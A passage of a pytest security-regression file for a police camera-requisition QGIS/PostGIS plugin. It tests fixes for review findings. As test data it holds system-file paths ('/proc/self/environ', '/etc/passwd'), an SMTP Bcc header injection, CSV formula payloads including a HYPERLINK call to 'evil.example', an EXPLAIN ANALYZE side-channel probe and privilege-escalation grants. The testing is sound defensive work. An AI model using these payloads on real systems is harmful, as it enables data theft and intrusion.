"""Attacks by a determined login and real faults: what issue 17 found broken, reproduced against the real parts.

Real logins (tests/db/conftest.py), real PostGIS, real SMTP servers on loopback that misbehave (aiosmtpd handlers,
and a small socket server that takes the message data then drops the connection or never answers).
"""

from __future__ import annotations

import hashlib
import io
import socket
import stat
import threading
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import psycopg2.errors
import pypdf
import pytest
from psycopg2.sql import SQL, Composable, Identifier
from qgis.core import QgsProcessingException, QgsProcessingFeedback

UNIT = "Brigade A"  # the unit of the logins fixture's investigator


@pytest.fixture
def unit_issued(create, cameras_layer, scene, sql, logins) -> dict[str, int]:
    """Issue the scene's three requisitions for the investigator's unit; return {owner: requisition id}."""
    create(cameras_layer(), OFFICER_UNIT=UNIT)
    return dict(
        sql(scene["db"], "SELECT o.name, r.id FROM camreq.requisitions r JOIN camreq.owners o ON o.id = r.owner_id")
    )


def stored_document(sql, connection: str, requisition_id: int) -> tuple[bytes, str]:
    """Return the issued PDF the database keeps for a requisition and the SHA-256 it computed."""
    [(pdf, sha256)] = sql(connection, "SELECT pdf, sha256 FROM camreq.requisition_documents "
                                      "WHERE requisition_id = %s AND issued", (requisition_id,))  # fmt: skip
    return bytes(pdf), sha256


def attachments(handler) -> dict[str, bytes]:
    """Return {recipient: attached PDF} of the messages an aiosmtpd RecordingHandler accepted."""
    found = {}
    for envelope in handler.envelopes:
        [attachment] = list(message_from_bytes(envelope.content, policy=default).iter_attachments())
        found[envelope.rcpt_tos[0]] = attachment.get_content()
    return found


def pdf_text(pdf: bytes) -> str:
    """Return the text of a PDF, whitespace collapsed."""
    return " ".join(" ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages).split())


# High 2: a writable file path made a colleague's send e-mail out local files.


def test_a_colleague_cannot_make_the_sender_attach_a_local_file(unit_issued, logins, send, smtp_server, sql, db):
    investigator = logins["investigator"]
    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
        sql(investigator, "UPDATE camreq.requisitions SET pdf_path = '/proc/self/environ'")
    handler, port = smtp_server()
    assert send(port, CONNECTION=investigator)["SENT"] == 2
    sent = attachments(handler)
    for owner, address in (("Parking Hoche SA", "videos@hoche.example.org"),
                           ("Ville de Grenoble", "req@grenoble.example.org")):  # fmt: skip
        pdf, sha256 = stored_document(sql, db, unit_issued[owner])
        assert sent[address] == pdf and hashlib.sha256(sent[address]).hexdigest() == sha256


def test_issued_documents_are_append_only_and_added_only_while_issuing(unit_issued, logins, sql, db):
    investigator = logins["investigator"]
    requisition = unit_issued["Parking Hoche SA"]
    before = stored_document(sql, db, requisition)
    forged = b"%PDF-1.7 forged"
    for statement, params in (
        ("INSERT INTO camreq.requisition_documents (requisition_id, file_name, pdf) VALUES (%s, 'x.pdf', %s)",
         (requisition, forged)),
        ("UPDATE camreq.requisition_documents SET file_name = 'x.pdf' WHERE requisition_id = %s", (requisition,)),
        ("DELETE FROM camreq.requisition_documents WHERE requisition_id = %s", (requisition,)),
        ("SELECT camreq.add_requisition_document(%s, 'x.pdf', %s)", (requisition, forged)),
    ):  # fmt: skip
        with pytest.raises(psycopg2.errors.InsufficientPrivilege):
            sql(investigator, statement, params)
    with pytest.raises(psycopg2.errors.InsufficientPrivilege, match="append-only"):
        sql(db, "UPDATE camreq.requisition_documents SET pdf = %s", (forged,))  # not even the owner
    assert stored_document(sql, db, requisition) == before
    assert sql(logins["investigator_b"], "SELECT count(*) FROM camreq.my_requisition_documents()") == [(0,)]


def test_open_the_pdf_writes_the_stored_document_to_an_owner_only_temporary_file(unit_issued, logins, sql, db):
    from camreq.core.followup import open_document

    requisition = unit_issued["Parking Hoche SA"]
    sql(db, "UPDATE camreq.requisitions SET pdf_path = '/etc/passwd'")  # what an old or forged row says
    path = open_document(logins["investigator"], requisition)
    assert path.read_bytes() == stored_document(sql, db, requisition)[0]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.unlink()
    with pytest.raises(Exception, match="no PDF"):  # another unit's requisition: nothing to open
        open_document(logins["investigator_b"], requisition)


# Medium 12 and Low: nothing outside the database before the commit; PDFs readable by their owner only.


def test_a_failed_commit_leaves_no_numbered_pdf_on_disk(create, cameras_layer, scene, sql, tmp_path):
    sql(scene["db"], """CREATE FUNCTION public.fail_at_commit() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN RAISE EXCEPTION 'the commit failed'; END $$""")  # fmt: skip
    sql(
        scene["db"],
        "CREATE CONSTRAINT TRIGGER fail_at_commit AFTER INSERT ON camreq.requisitions "
        "DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.fail_at_commit()",
    )
    with pytest.raises(QgsProcessingException, match="the commit failed"):
        create(cameras_layer())
    assert sql(scene["db"], "SELECT count(*) FROM camreq.requisitions") == [(0,)]
    assert list((tmp_path / "pdf").glob("*.pdf")) == []


def test_pdf_copies_in_the_output_folder_are_readable_by_their_owner_only(create, cameras_layer, sql, db):
    result = create(cameras_layer())
    paths = [Path(feature["pdf_path"]) for feature in result["OUTPUT"].getFeatures()]
    assert len(paths) == 3
    for path in paths:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    stored = {bytes(pdf) for (pdf,) in sql(db, "SELECT pdf FROM camreq.requisition_documents WHERE issued")}
    assert {path.read_bytes() for path in paths} == stored


# High 3: an analyst redirected another unit's requisitions by changing an owner's e-mail before a send.


def test_an_email_changed_after_issue_never_redirects_the_issued_mail(
    unit_issued, logins, send, smtp_server, sql, db, login_of
):
    analyst = logins["analyst"]
    sql(analyst, "UPDATE camreq.owners SET email = 'thief@evil.example' WHERE name = 'Parking Hoche SA'")
    handler, port = smtp_server()
    send(port, CONNECTION=logins["investigator"])
    recipients = {rcpt for envelope in handler.envelopes for rcpt in envelope.rcpt_tos}
    assert recipients == {"videos@hoche.example.org", "req@grenoble.example.org"}
    pdf, _ = stored_document(sql, db, unit_issued["Parking Hoche SA"])
    assert "videos@hoche.example.org" in pdf_text(pdf) and "thief" not in pdf_text(pdf)
    changes = sql(
        logins["administrator"],
        "SELECT changed_by, old_values ->> 'email', new_values ->> 'email' "
        "FROM camreq.audit_log WHERE table_name = 'owners' AND operation = 'UPDATE'",
    )
    assert changes == [(login_of(analyst), "videos@hoche.example.org", "thief@evil.example")]
    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
        sql(logins["investigator"], "UPDATE camreq.requisition_outbox SET to_address = 'thief@evil.example'")


def test_issuing_by_a_bare_update_queues_the_mail_with_the_databases_message_id(create, cameras_layer, logins, sql, db):
    create(cameras_layer(), ISSUE=False, OFFICER_UNIT=UNIT)
    investigator = logins["investigator"]
    [(draft,)] = sql(db, "UPDATE camreq.requisitions SET status = 'issued' WHERE id = "
                         "(SELECT min(id) FROM camreq.requisitions) RETURNING id")  # fmt: skip
    forge = "INSERT INTO camreq.requisition_outbox (requisition_id, message_id) VALUES (%s, %s)"
    with pytest.raises(psycopg2.errors.InsufficientPrivilege):  # investigators write no message themselves
        sql(investigator, forge, (draft, "<x>\r\nBcc: thief@evil.example"))
    with pytest.raises(psycopg2.errors.UniqueViolation):  # queued already: no second message with the attacker's id
        sql(db, forge, (draft, "<x>\r\nBcc: thief@evil.example"))
    [(message_id, status)] = sql(db, "SELECT message_id, status FROM camreq.requisition_outbox")
    assert message_id.startswith(f"<camreq.{draft}.") and "\n" not in message_id and status == "pending"


@pytest.mark.parametrize("address", ["undisclosed:;a@b.example", "Thief <a@b.example>", "a@b.example, c@d.example"])
def test_an_owner_email_is_one_plain_address(logins, sql, address):
    sql(logins["analyst"], "INSERT INTO camreq.owners (name) VALUES ('Plain')")
    with pytest.raises(psycopg2.errors.CheckViolation, match="one address"):
        sql(logins["analyst"], "UPDATE camreq.owners SET email = %s WHERE name = 'Plain'", (address,))


# Medium 6: a message cut after its data, or never answered, was re-sent.


class CuttingSmtpServer:
    """A loopback SMTP server that reads the whole message data, then drops the connection (or never answers)."""

    def __init__(self, hang: bool = False) -> None:
        self.hang, self.messages, self.stop = hang, 0, threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._session, args=(connection,), daemon=True).start()

    def _session(self, connection: socket.socket) -> None:
        with connection, connection.makefile("rb") as lines:
            self._exchange(connection, lines)

    def _exchange(self, connection: socket.socket, lines) -> None:
        connection.sendall(b"220 cutting.example ESMTP\r\n")
        for line in lines:
            command = line[:4].upper()
            if command == b"DATA":
                connection.sendall(b"354 go ahead\r\n")
                for data in lines:
                    if data == b".\r\n":
                        break
                self.messages += 1
                if self.hang:
                    self.stop.wait(10)
                return  # dropped: the client never gets the answer to its data
            connection.sendall(b"250-cutting.example\r\n250 8BITMIME\r\n" if command == b"EHLO" else b"250 ok\r\n")

    def close(self) -> None:
        self.stop.set()
        self.listener.close()


@pytest.fixture
def cutting_server():
    """Return a function starting a CuttingSmtpServer; every one is closed after the test."""
    started = []

    def start(hang: bool = False) -> CuttingSmtpServer:
        started.append(CuttingSmtpServer(hang))
        return started[-1]

    yield start
    for server in started:
        server.close()


def test_a_message_cut_after_its_data_is_reported_unknown_and_never_sent_again(
    unit_issued, send, cutting_server, sql, db
):
    server = cutting_server()
    feedback = QgsProcessingFeedback()
    for _run in range(3):
        send(server.port, feedback)
    assert server.messages == 2  # each message's data went once; nothing re-sent automatically
    assert sorted(sql(db, "SELECT outcome FROM camreq.requisition_outbox_attempts")) == [("unknown",), ("unknown",)]
    assert sorted(sql(db, "SELECT status FROM camreq.requisition_outbox")) == [("pending",), ("unknown",), ("unknown",)]
    assert "may have been delivered" in feedback.textLog()


def test_a_server_that_never_answers_the_data_is_reported_unknown_not_resent(unit_issued, cutting_server, sql, db):
    from camreq.core.mailer import SmtpServer
    from camreq.core.outbox import send_outbox

    server = cutting_server(hang=True)
    smtp = SmtpServer("127.0.0.1", server.port, "none", "requisitions@police.example.org", timeout_s=1)
    for _run in range(2):
        send_outbox(db, smtp, QgsProcessingFeedback())
    assert server.messages == 2
    assert sorted(sql(db, "SELECT outcome FROM camreq.requisition_outbox_attempts")) == [("unknown",), ("unknown",)]


def test_send_again_requeues_an_unknown_outcome_once_someone_has_checked(unit_issued, send, cutting_server, sql, db):
    from camreq.db.connection import connect
    from camreq.db.outbox import requeue_failed

    send(cutting_server().port)
    [(requisition,)] = sql(db, "SELECT requisition_id FROM camreq.requisition_outbox WHERE status = 'unknown'")
    conn = connect(db)
    with conn, conn.cursor() as cursor:
        assert requeue_failed(cursor, requisition)
    conn.close()
    assert sql(db, "SELECT status FROM camreq.requisition_outbox WHERE requisition_id = %s", (requisition,)) == [
        ("pending",)
    ]


# Medium 7: cancelling a requisition while its e-mail is being sent crashed the run and left it "sending".


def test_cancelling_while_the_email_is_sent_is_recorded_and_the_queue_goes_on(
    unit_issued, logins, send, smtp_server, sql, db
):
    handler, port = smtp_server()
    investigator = logins["investigator"]
    cancelled = []

    async def cancel_then_accept(server, session, envelope) -> str:  # the colleague cancels during the exchange
        if not cancelled:
            [(number,)] = sql(db, "SELECT r.number FROM camreq.requisitions r JOIN camreq.requisition_outbox o "
                                  "ON o.requisition_id = r.id WHERE o.status = 'sending'")  # fmt: skip
            sql(investigator, "SELECT camreq.set_requisition_status(id, 'cancelled', 'doublon') "
                              "FROM camreq.my_requisitions() WHERE number = %s", (number,))  # fmt: skip
            cancelled.append(number)
        handler.envelopes.append(envelope)
        return "250 2.0.0 Ok"

    handler.handle_DATA = cancel_then_accept
    feedback = QgsProcessingFeedback()
    result = send(port, feedback, CONNECTION=investigator)
    assert result["SENT"] == 2 and len(handler.envelopes) == 2  # the next message went too
    assert sql(db, "SELECT count(*) FROM camreq.requisition_outbox WHERE status = 'sending'") == [(0,)]
    assert sql(db, "SELECT status FROM camreq.requisitions WHERE number = %s", (cancelled[0],)) == [("cancelled",)]
    assert f"{cancelled[0]} was cancelled" in feedback.textLog()


# Medium 8: a 530 or a relay refusal at MAIL FROM marked every message failed.


@pytest.mark.parametrize("answer", ["530 5.7.0 Authentication required", "550 5.7.1 Relaying denied"])
def test_a_refusal_at_mail_from_stops_the_run_and_leaves_everything_pending(
    answer, unit_issued, send, smtp_server, sql, db
):
    handler, port = smtp_server()

    async def refuse(server, session, envelope, address, options) -> str:
        return answer

    handler.handle_MAIL = refuse
    feedback = QgsProcessingFeedback()
    result = send(port, feedback)
    assert (result["SENT"], result["FAILED"], result["PENDING"]) == (0, 0, 3)
    assert sql(db, "SELECT outcome, smtp_code FROM camreq.requisition_outbox_attempts") == [
        ("deferred", int(answer[:3]))
    ]
    assert "the rest stays pending" in feedback.textLog()


# Medium 11: SMTP_SECURITY=none with SMTP_AUTHCFG sent the password in clear.


def test_credentials_are_never_sent_without_tls(unit_issued, send, smtp_server, basic_authcfg, sql, db):
    logins_seen = []

    def authenticator(server, session, envelope, mechanism, auth_data):
        from aiosmtpd.smtp import AuthResult

        logins_seen.append(auth_data.password)
        return AuthResult(success=True)

    _, port = smtp_server(authenticator=authenticator, auth_require_tls=False)
    with pytest.raises(QgsProcessingException, match="SMTP_AUTHCFG: a password is only sent over an encrypted"):
        send(port, SMTP_SECURITY="none", SMTP_AUTHCFG=basic_authcfg("brigade", "clear-text-password"))
    assert logins_seen == []
    assert sql(db, "SELECT count(*) FROM camreq.requisition_outbox_attempts") == [(0,)]


# Medium 5: an analyst learnt which cameras are under requisition from the error of a rolled-back DELETE.


def test_an_analyst_learns_nothing_from_deleting_cameras_or_owners(unit_issued, scene, logins, attempt):
    analyst = logins["analyst"]
    answers = set()
    for camera in scene["cameras"].values():  # HOC-01 is under requisition, the others too: same answer for all
        with pytest.raises(psycopg2.errors.InsufficientPrivilege) as refused:
            attempt(analyst, "DELETE FROM camreq.cameras WHERE id = %s", (camera,))
        answers.add(refused.value.diag.message_primary)
    with pytest.raises(psycopg2.errors.InsufficientPrivilege) as refused:
        attempt(analyst, "DELETE FROM camreq.cameras WHERE id = -1")
    answers.add(refused.value.diag.message_primary)
    assert answers == {"permission denied for table cameras"}


# Low: the purge deadline (urgency, e-mail subject) was writable by unit members.


def test_the_purge_deadline_is_always_the_earliest_camera_purge(unit_issued, logins, sql, db):
    requisition = unit_issued["Parking Hoche SA"]
    [(before,)] = sql(db, "SELECT purge_deadline FROM camreq.requisitions WHERE id = %s", (requisition,))
    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
        sql(logins["investigator"], "UPDATE camreq.requisitions SET purge_deadline = '2099-01-01'")
    sql(db, "UPDATE camreq.requisitions SET purge_deadline = '2099-01-01' WHERE id = %s", (requisition,))
    assert sql(db, "SELECT purge_deadline FROM camreq.requisitions WHERE id = %s", (requisition,)) == [(before,)]


# Medium 10: owner names from imports (OpenStreetMap's operator tag) reached CSV outputs as spreadsheet formulas.


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1)', "@SUM(1)"])
def test_no_text_a_spreadsheet_would_run_reaches_a_csv_output(
    name, camreq_processing, db, sql, add_camera, incident_layer, tmp_path
):
    import csv

    add_camera(5.7245, 45.1886)
    sql(db, "UPDATE camreq.owners SET name = %s", (name,))
    output = tmp_path / "cameras.csv"
    camreq_processing.run("camreq:camerasnearincident", {
        "CONNECTION": db, "INCIDENTS": incident_layer([("POINT(5.7245 45.1885)", {"name": "A"})]), "ID_FIELD": "name",
        "DISTANCE": 200, "START": "2025-03-10T10:00:00", "END": "2025-03-10T11:00:00", "REASON": "PV 2025/17",
        "OUTPUT": str(output),
    })  # fmt: skip
    with output.open(newline="", encoding="utf-8") as file:
        [row] = list(csv.DictReader(file))
    assert row["owner_name"] == "'" + name
    assert not any(value.startswith(("=", "+", "@")) for value in row.values())


# Low: pg_temp was implicitly first in the pinned search_path of SECURITY DEFINER functions.


def test_security_definer_functions_search_pg_temp_last(db, sql):
    paths = sql(db, "SELECT proname, proconfig FROM pg_proc WHERE pronamespace = 'camreq'::regnamespace "
                    "AND prosecdef")  # fmt: skip
    assert len(paths) >= 4
    for name, config in paths:
        [path] = [setting for setting in config or [] if setting.startswith("search_path=")]
        assert path.startswith("search_path=pg_catalog, camreq") and path.endswith(", pg_temp"), name


# Medium 4: naming administrators needed CREATEROLE, with which a login took over the server.


def test_an_administrator_without_createrole_names_administrators_and_gives_nothing_else(
    camreq_processing, db, logins, sql, login_of
):
    from psycopg2 import sql as pgsql

    admin = login_of(logins["administrator"])
    assert sql(db, "SELECT rolcreaterole, rolsuper FROM pg_roles WHERE rolname = %s", (admin,)) == [(False, False)]
    who = login_of(logins["nobody"])
    camreq_processing.run("camreq:grantuser", {"CONNECTION": logins["administrator"], "LOGIN": who,
                                               "ROLE": "administrator", "UNIT": ""})  # fmt: skip
    assert sql(db, "SELECT role FROM camreq.users WHERE login = %s", (who,)) == [("administrator",)]
    assert sql(logins["nobody"], "SELECT camreq.is_administrator()") == [(True,)]
    with pytest.raises(psycopg2.errors.InvalidParameterValue, match="ROLE"):
        sql(logins["administrator"], "SELECT camreq.grant_role(%s, 'pg_execute_server_program', NULL)", (admin,))
    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
        sql(logins["administrator"], pgsql.SQL("GRANT pg_execute_server_program TO {}").format(pgsql.Identifier(admin)))
    for other in ("analyst", "investigator"):
        with pytest.raises(psycopg2.errors.InsufficientPrivilege):
            sql(logins[other], "SELECT camreq.grant_role(%s, 'administrator', NULL)", (login_of(logins[other]),))
    assert sql(db, "SELECT count(*) FROM pg_auth_members WHERE roleid = 'pg_execute_server_program'::regrole") == [(0,)]


# Low: any login read every login's unit and role through login_unit() and login_role().


def test_a_login_learns_only_its_own_unit_and_role(logins, sql, login_of):
    other = login_of(logins["investigator_b"])
    for who in ("investigator", "analyst"):
        assert sql(logins[who], "SELECT camreq.login_unit(%s), camreq.login_role(%s)", (other, other)) == [(None, None)]
    me = login_of(logins["investigator"])
    assert sql(logins["investigator"], "SELECT camreq.login_unit(%s), camreq.login_role(%s)", (me, me)) == [
        (UNIT, "investigator")
    ]
    assert sql(logins["administrator"], "SELECT camreq.login_unit(%s)", (other,)) == [("Brigade B",)]


# Low: NaN or extreme SPEED_KMH and MARGIN_MINUTES reached the database; a locked cameras table stalled searches.


@pytest.mark.parametrize(("option", "value"), [
    ("speed_kmh", float("nan")), ("speed_kmh", 1e308), ("margin_minutes", float("nan")),
    ("margin_minutes", float("inf")),
])  # fmt: skip
def test_nan_and_extreme_search_options_are_refused_naming_the_parameter(qgis_app, option, value):
    from camreq.core.search import SearchOptions, check_options
    from camreq.errors import CamreqError

    with pytest.raises(CamreqError, match=option.upper()):
        check_options(SearchOptions(100, "PV 2025/17", **{option: value}))


def test_a_locked_cameras_table_makes_the_search_fail_fast_with_a_message(db, logins, add_camera, qgis_app):
    from datetime import datetime, timedelta

    from camreq.core.search import Incident, SearchOptions, search
    from camreq.db.connection import connect
    from camreq.errors import CamreqError
    from qgis.core import QgsGeometry

    add_camera(5.7245, 45.1886)
    locker = connect(logins["analyst"])
    with locker.cursor() as cursor:
        cursor.execute("LOCK TABLE camreq.cameras IN ACCESS EXCLUSIVE MODE")
    release = threading.Timer(20, locker.rollback)  # the old code waited for the lock this long, then searched
    release.start()
    start = datetime.fromisoformat("2025-03-10T10:00:00+01:00")
    incident = Incident("A", bytes(QgsGeometry.fromWkt("POINT(5.7245 45.1885)").asWkb()), start,
                        start + timedelta(hours=1))  # fmt: skip
    try:
        with pytest.raises(CamreqError, match="locked by another session"):
            search(logins["investigator"], [incident], SearchOptions(200, "PV 2025/17"))
    finally:
        release.cancel()
        locker.rollback()
        locker.close()


# Low: a message stuck "sending" (its run killed before the server's answer was recorded) had no supported way out.


def test_a_message_stuck_sending_becomes_unknown_and_send_again_delivers_it(unit_issued, send, smtp_server, sql, db):
    from camreq.core.followup import resend
    from camreq.core.mailer import SmtpServer

    hoche = unit_issued["Parking Hoche SA"]
    [(outbox, number)] = sql(
        db,
        "UPDATE camreq.requisition_outbox o SET status = 'sending' FROM camreq.requisitions r "
        "WHERE r.id = o.requisition_id AND r.id = %s RETURNING o.id, r.number",
        (hoche,),
    )
    sql(
        db,
        "INSERT INTO camreq.requisition_outbox_attempts (outbox_id, to_address, smtp_server, started_at) "
        "VALUES (%s, 'videos@hoche.example.org', 'killed run', now() - interval '1 hour')",
        (outbox,),
    )
    handler, port = smtp_server()
    feedback = QgsProcessingFeedback()
    assert send(port, feedback)["SENT"] == 1  # the other owner's; the stuck one is not re-sent automatically
    assert f"{number}: a previous run stopped while sending" in feedback.textLog()
    assert sql(db, "SELECT status FROM camreq.requisition_outbox WHERE id = %s", (outbox,)) == [("unknown",)]
    assert sql(db, "SELECT outcome FROM camreq.requisition_outbox_attempts WHERE smtp_server = 'killed run'") == [
        ("unknown",)
    ]
    server = SmtpServer("127.0.0.1", port, "none", "requisitions@police.example.org")
    assert resend(db, number, server, QgsProcessingFeedback()).sent == 1
    assert sql(db, "SELECT status FROM camreq.requisitions WHERE id = %s", (hoche,)) == [("sent",)]
    assert [e.rcpt_tos for e in handler.envelopes].count(["videos@hoche.example.org"]) == 1


# High 1: another unit's rows were readable through EXPLAIN (ANALYZE): a condition on an indexed column ran as the
# index condition before the row-level policy, and "Rows Removed by Filter" counted the hidden rows.

ISSUE_PROBE = SQL("SELECT * FROM camreq.search_incidents WHERE search_id = %s AND incident_id > 'M'")


@pytest.fixture
def unit_a_everywhere(unit_issued, send, smtp_server, logins, sql, db) -> int:
    """Give unit A rows in every unit-scoped table (a search of its investigator, requisitions issued, cameras, PDFs,
    history, sent e-mails and their attempts); return the id of unit A's search."""
    from datetime import datetime, timedelta

    from camreq.core.search import Incident, SearchOptions, search
    from qgis.core import QgsGeometry

    [(lon, lat)] = sql(
        db, "SELECT ST_X(p), ST_Y(p) FROM camreq.cameras, ST_Transform(geom, 4326) p WHERE ref = 'HOC-01'"
    )
    start = datetime.fromisoformat("2026-11-26T22:30:00+01:00")
    point = bytes(QgsGeometry.fromWkt(f"POINT({lon} {lat})").asWkb())
    incidents = [Incident(name, point, start, start + timedelta(hours=1)) for name in ("Rue Hoche", "Witness Durand")]
    found = search(logins["investigator"], incidents, SearchOptions(200, "PV 2026/004517"))
    assert found.hits
    _, port = smtp_server()
    assert send(port, CONNECTION=logins["investigator"])["SENT"] == 2
    return found.search_id


def rows_removed(plan: dict) -> int:
    """Return every row a plan node and its children counted as removed (by a filter, a join filter, a recheck)."""
    removed = sum(value for key, value in plan.items() if key.startswith("Rows Removed"))
    return removed + sum(rows_removed(child) for child in plan.get("Plans", []))


def probe(connection: str, statement: Composable, params: tuple = ()) -> int | None:
    """Return the rows EXPLAIN (ANALYZE) says were removed running statement with index scans forced, or None when
    the login may not run it at all."""
    from camreq.db.connection import connect

    conn = connect(connection)
    try:
        with conn.cursor() as cursor:
            cursor.execute("SET enable_seqscan = off")
            try:
                cursor.execute(SQL("EXPLAIN (ANALYZE, FORMAT JSON) ") + statement, params)
            except psycopg2.errors.InsufficientPrivilege:
                return None
            [[[explained]]] = cursor.fetchall()
            return rows_removed(explained["Plan"])
    finally:
        conn.rollback()
        conn.close()


def row_secured_tables(sql, db) -> dict[str, str]:
    """Return {table: first column of its primary key} for every table of the schema under row-level security."""
    return dict(sql(db, """
        SELECT c.relname, a.attname FROM pg_class c
        JOIN pg_namespace n ON n.oid = c.relnamespace
        JOIN pg_index i ON i.indrelid = c.oid AND i.indisprimary
        JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum = i.indkey[0]
        WHERE n.nspname = 'camreq' AND c.relkind = 'r' AND c.relrowsecurity"""))  # fmt: skip


def test_no_plan_counts_another_units_rows_in_any_row_secured_table(unit_a_everywhere, logins, sql, db):
    investigator_b = logins["investigator_b"]
    tables = row_secured_tables(sql, db)
    unit_scoped = {"searches", "search_incidents", "requisitions", "requisition_cameras", "requisition_status_history",
                   "requisition_outbox", "requisition_outbox_attempts", "requisition_documents"}  # fmt: skip
    assert unit_scoped <= set(tables)
    for table in unit_scoped:  # unit A has rows everywhere: a leak would show
        assert sql(db, SQL("SELECT count(*) FROM camreq.{}").format(Identifier(table)))[0][0] > 0, table
    leaks, privileges = {}, []
    for table, column in tables.items():
        statement = SQL("SELECT * FROM camreq.{} WHERE {} IS NOT NULL").format(Identifier(table), Identifier(column))
        removed = probe(investigator_b, statement)
        if removed:
            leaks[table] = removed
        privileges.extend(
            f"{action} {table}"
            for action in ("SELECT", "INSERT", "UPDATE", "DELETE")
            if sql(investigator_b, "SELECT has_table_privilege(%s, %s)", (f"camreq.{table}", action))[0][0]
        )
    leaks["search_incidents (the issue's probe)"] = probe(investigator_b, ISSUE_PROBE, (unit_a_everywhere,))
    assert {table: removed for table, removed in leaks.items() if removed} == {}
    assert privileges == []  # UPDATE and DELETE … WHERE can be explained too: no direct write either


def test_the_functions_serving_unit_rows_count_the_callers_rows_only(unit_a_everywhere, logins, sql, db):
    functions = [name for (name,) in sql(db, """
        SELECT p.proname FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
        WHERE n.nspname = 'camreq' AND p.proname LIKE 'my\\_%%' AND p.pronargs = 0""")]  # fmt: skip
    assert len(functions) == 8
    for function in functions:
        condition = "search_id = %s AND incident_id > 'M'" if function == "my_search_incidents" else "id > %s"
        statement = SQL("SELECT * FROM camreq.{}() WHERE " + condition).format(Identifier(function))
        params = (unit_a_everywhere,) if function == "my_search_incidents" else (0,)
        assert sql(logins["investigator"], statement, params), function  # unit A sees its own rows
        assert sql(logins["investigator_b"], statement, params) == [], function
        assert probe(logins["investigator_b"], statement, params) == 0, function
    assert probe(logins["investigator_b"], SQL("SELECT * FROM camreq.requisitions_due_soon WHERE id > 0")) == 0


# Low: issued → sent was set by hand with no delivery recorded.


def test_issued_becomes_sent_only_with_a_delivery_or_a_service_recorded(unit_issued, logins, sql, db):
    from camreq.core.requisitions import change_status

    hoche, tabac = unit_issued["Parking Hoche SA"], unit_issued["Tabac du Cours"]
    with pytest.raises(psycopg2.errors.CheckViolation, match="sent when the mail server accepted"):
        sql(db, "UPDATE camreq.requisitions SET status = 'sent' WHERE id = %s", (hoche,))  # even the schema's owner
    with pytest.raises(psycopg2.errors.CheckViolation, match="sent when the mail server accepted"):
        sql(logins["investigator"], "SELECT camreq.set_requisition_status(%s, 'sent', 'by hand')", (hoche,))
    [(number,)] = sql(db, "SELECT number FROM camreq.requisitions WHERE id = %s", (tabac,))
    change_status(logins["investigator"], number, "sent", "remis en main propre le 27/11")
    statuses = "SELECT r.status, o.status FROM camreq.requisitions r JOIN camreq.requisition_outbox o " \
               "ON o.requisition_id = r.id WHERE r.id = %s"  # fmt: skip
    assert sql(db, statuses, (hoche,)) == [("issued", "pending")]
    assert sql(db, statuses, (tabac,)) == [("sent", "served_otherwise")]


# Low: investigators inserted consultation-log rows for searches that never ran.


def test_the_consultation_log_holds_only_searches_that_ran(logins, sql, db, add_camera):
    investigator = logins["investigator"]
    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
        sql(investigator, "INSERT INTO camreq.searches (reason, distance_m, incident_count, result_count) "
                          "VALUES ('forged', 100, 1, 0)")  # fmt: skip
    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
        sql(investigator, "INSERT INTO camreq.search_incidents (search_id, incident_id, window_start, window_end, geom)"
                          " SELECT id, 'forged', now(), now(), ST_SetSRID(ST_MakePoint(913000, 6458000), 2154) "
                          "FROM camreq.searches")  # fmt: skip
    add_camera(5.7245, 45.1886)
    rows = sql(investigator, "SELECT * FROM camreq.search_cameras(ARRAY['A'], ARRAY[ST_AsBinary(ST_SetSRID("
                             "ST_MakePoint(5.7245, 45.1885), 4326))], ARRAY[now()], ARRAY[now()], NULL, 100, false, "
                             "false, 0, 'PV 2026/1')")  # fmt: skip
    assert sql(db, "SELECT searched_by, reason, result_count, incident_count FROM camreq.searches") == [
        (dict(part.split("=", 1) for part in investigator.split())["user"], "PV 2026/1", len(rows), 1)
    ]
    assert sql(db, "SELECT incident_id FROM camreq.search_incidents") == [("A",)]


# Low: a 100 kB incident id and the years 1 and 9999 reached the database and came back as tracebacks.


@pytest.mark.parametrize(("incident_id", "start", "parameter"), [
    ("x" * 100_000, "2026-11-26T22:30:00+01:00", "ID_FIELD"),
    ("A", "0001-01-01T00:00:00+00:00", "START"),
    ("A", "9999-12-31T00:00:00+01:00", "START"),
], ids=["100 kB id", "year 1", "year 9999"])  # fmt: skip
def test_an_impossible_incident_id_or_year_is_refused_naming_the_field(qgis_app, incident_id, start, parameter):
    from datetime import datetime, timedelta

    from camreq.core.search import Incident, SearchOptions, check_incidents
    from camreq.errors import CamreqError
    from qgis.core import QgsGeometry

    begin = datetime.fromisoformat(start)
    incident = Incident(incident_id, bytes(QgsGeometry.fromWkt("POINT(5.72 45.18)").asWkb()), begin,
                        begin + timedelta(hours=1))  # fmt: skip
    with pytest.raises(CamreqError, match=parameter) as refused:
        check_incidents([incident], SearchOptions(100, "PV 2026/1"))
    assert len(str(refused.value)) < 300


# Low: a backend terminated during an import gave 41,826 bogus "rejected" rows, then a traceback.


def test_a_backend_terminated_during_an_import_leaves_nothing_and_says_so(import_cameras, point_layer, scene, sql, db):
    rows = [{"x": 5.70 + i * 1e-4, "y": 45.18, "ref": f"K-{i}", "owner": "Ville de Grenoble"} for i in range(2000)]

    class TerminatingFeedback(QgsProcessingFeedback):
        """Terminates the import's backend once a tenth of the rows went in."""

        terminated = False

        def setProgress(self, progress: float) -> None:  # noqa: N802
            super().setProgress(progress)
            if progress >= 10 and not self.terminated:
                self.terminated = bool(
                    sql(
                        db,
